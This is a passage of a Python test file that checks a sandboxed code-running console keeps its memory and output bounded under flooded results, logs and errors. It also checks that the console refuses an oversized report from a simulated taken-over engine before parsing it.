@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc/self/status")
@pytest.mark.parametrize("flood", list(FLOODS))
def test_engine_floods_leave_the_console_s_memory_bounded(
    engine: str, targets: Targets, flood: str
) -> None:
    """Issue 33: 500 bt calls with 24,000-character method names took the console to 979 MB
    and 72 MB of output; a result of 5 million characters of controls to 445 MB. Every
    string is clipped in the engine, and the console reads a bounded report."""
    request = {
        "args": {**targets.request["args"], "body": {}, "headers": {}},  # type: ignore[dict-item]
        "configuration": {},
    }
    results: list[RunResult] = []
    code = f"module.exports = function (req) {{\n{FLOODS[flood]}}};\n"

    def one_run() -> None:
        results.append(
            run_code(code, request, "transform", engine=engine, with_bt=True, check=False)  # type: ignore[arg-type]
        )

    grown = _peak_rss_growth_mb(one_run)
    result = results[0]
    targets.assert_untouched(result)
    shown = json.dumps(result.to_json())
    assert grown < 64, f"the console grew by {grown:.0f} MB"
    assert len(shown) < 3_000_000
    if flood == "bt-method-names":
        assert result.status == "ok", result.message
        assert result.calls and all(len(call.method) <= 201 for call in result.calls)
        assert len(result.calls[0].args) == 21  # 20 and a note of the rest
        assert result.calls_dropped > 0
    elif flood == "logs":
        assert result.logs_dropped > 0
        assert all(len(line.text) <= 10_010 for line in result.logs)
    elif flood == "too-large":
        assert result.status == "too_large", result.message
    elif flood == "error":
        assert result.status == "threw"
        assert result.error is not None and len(result.error.message) <= 10_010


def test_a_report_over_the_read_cap_is_refused_before_it_is_parsed(
    engine: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the harness lets out stays under the cap; an engine that writes past it anyway
    (one taken over) is stopped, and its report is never parsed."""
    from console.runner import engines, sandbox

    def flooding(self: object, job: engines.Job) -> sandbox.Launch:
        script = "import sys; sys.stdout.write('[' * 17_000_000)"
        argv = (sandbox.python_executable(), "-I", "-S", "-c", script)
        return sandbox.Launch(
            argv, sandbox.boundary().mechanism, tuple(sandbox.interpreter_paths()), 0
        )

    monkeypatch.setattr(engines.NodeEngine, "launch", flooding)
    monkeypatch.setattr(engines.EmbeddedEngine, "launch", flooding)
    result = run_code(
        "module.exports = () => ({ raw: {} });", {"args": {}}, "formula", engine=engine, check=False
    )  # type: ignore[arg-type]
    assert result.status == "too_large"
    assert "too large to read" in result.message
